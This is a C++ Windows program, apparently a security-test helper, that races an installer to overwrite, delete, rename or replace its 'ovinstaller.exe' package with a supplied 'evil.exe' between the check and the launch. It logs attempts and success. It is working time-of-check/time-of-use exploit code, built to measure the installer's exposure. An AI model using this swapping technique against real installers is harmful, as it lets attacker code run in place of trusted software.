// A second process that tries, as fast as it can, to change the installer's
// package between its check and its start:
//   package_swapper.exe <package dir> <evil.exe> <log file> <seconds> [<install dir>]
// Whenever "<package dir>\ovinstaller.exe" exists it tries to open it for
// writing, rename it away, delete it and replace it with <evil.exe>, and counts
// the attempts made before the package has started (a process named
// "ovinstaller.exe" exists, or it left "<install dir>\installer.txt"). On the
// first attempt that works it puts <evil.exe> in place (if it is not yet) and
// ends. The log file gets "attempts_before_start=N" and, if one worked,
// "success=<how> started=<0|1>". A file "<log file>.stop" ends it early.

#include <windows.h>
#include <tlhelp32.h>

#include <cstdio>
#include <string>

namespace {

bool PackageStarted(const std::wstring& installDir)
{
    if (!installDir.empty() &&
        GetFileAttributesW((installDir + L"\\installer.txt").c_str()) != INVALID_FILE_ATTRIBUTES)
        return true;
    HANDLE snap = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    if (snap == INVALID_HANDLE_VALUE)
        return false;
    PROCESSENTRY32W entry = {};
    entry.dwSize = sizeof entry;
    bool found = false;
    for (BOOL more = Process32FirstW(snap, &entry); more && !found; more = Process32NextW(snap, &entry))
        found = lstrcmpiW(entry.szExeFile, L"ovinstaller.exe") == 0;
    CloseHandle(snap);
    return found;
}

bool Exists(const std::wstring& path)
{
    return GetFileAttributesW(path.c_str()) != INVALID_FILE_ATTRIBUTES;
}

// Whether the real package leaves "<installDir>\installer.txt" within a few seconds.
bool InstalledSoon(const std::wstring& installDir)
{
    if (installDir.empty())
        return false;
    const DWORD until = GetTickCount() + 5000;
    while (static_cast<LONG>(until - GetTickCount()) > 0) {
        if (Exists(installDir + L"\\installer.txt"))
            return true;
        Sleep(10);
    }
    return false;
}

}  // namespace

int wmain(int argc, wchar_t** argv)
{
    if (argc < 5)
        return 2;
    const std::wstring target = std::wstring(argv[1]) + L"\\ovinstaller.exe";
    const std::wstring evil = argv[2];
    const std::wstring log = argv[3];
    const DWORD until = GetTickCount() + static_cast<DWORD>(_wtoi(argv[4])) * 1000;
    const std::wstring installDir = argc > 5 ? argv[5] : L"";
    const std::wstring copy = target + L".swap";
    const std::wstring away = target + L".away";

    long attemptsBeforeStart = 0;
    const wchar_t* how = nullptr;
    bool startedAtSuccess = false;
    while (!how && static_cast<LONG>(until - GetTickCount()) > 0 && !Exists(log + L".stop")) {
        if (!Exists(target)) {
            Sleep(1);
            continue;
        }
        const bool started = PackageStarted(installDir);
        if (!started)
            ++attemptsBeforeStart;
        HANDLE h = CreateFileW(target.c_str(), GENERIC_WRITE, FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE,
                               nullptr, OPEN_EXISTING, 0, nullptr);
        if (h != INVALID_HANDLE_VALUE) {
            CloseHandle(h);
            how = L"write";
        } else if (DeleteFileW(target.c_str())) {
            how = L"delete";
        } else if (MoveFileExW(target.c_str(), away.c_str(), MOVEFILE_REPLACE_EXISTING)) {
            how = L"rename";
        } else if (CopyFileW(evil.c_str(), copy.c_str(), FALSE) &&
                   MoveFileExW(copy.c_str(), target.c_str(), MOVEFILE_REPLACE_EXISTING)) {
            how = L"replace";
        }
        if (how) {
            CopyFileW(evil.c_str(), target.c_str(), FALSE);
            // `started` was looked at before this attempt, and the installer
            // lets its package go the moment the package's process exists: it
            // may have started in between. The real package, once started,
            // leaves its installer.txt within moments; a change that came
            // before its start would have kept it from ever running.
            startedAtSuccess = started || InstalledSoon(installDir);
        }
    }
    FILE* f = _wfopen(log.c_str(), L"w");
    if (!f)
        return 3;
    fprintf(f, "attempts_before_start=%ld\n", attemptsBeforeStart);
    if (how)
        fprintf(f, "success=%ls started=%d\n", how, startedAtSuccess ? 1 : 0);
    fclose(f);
    return 0;
}
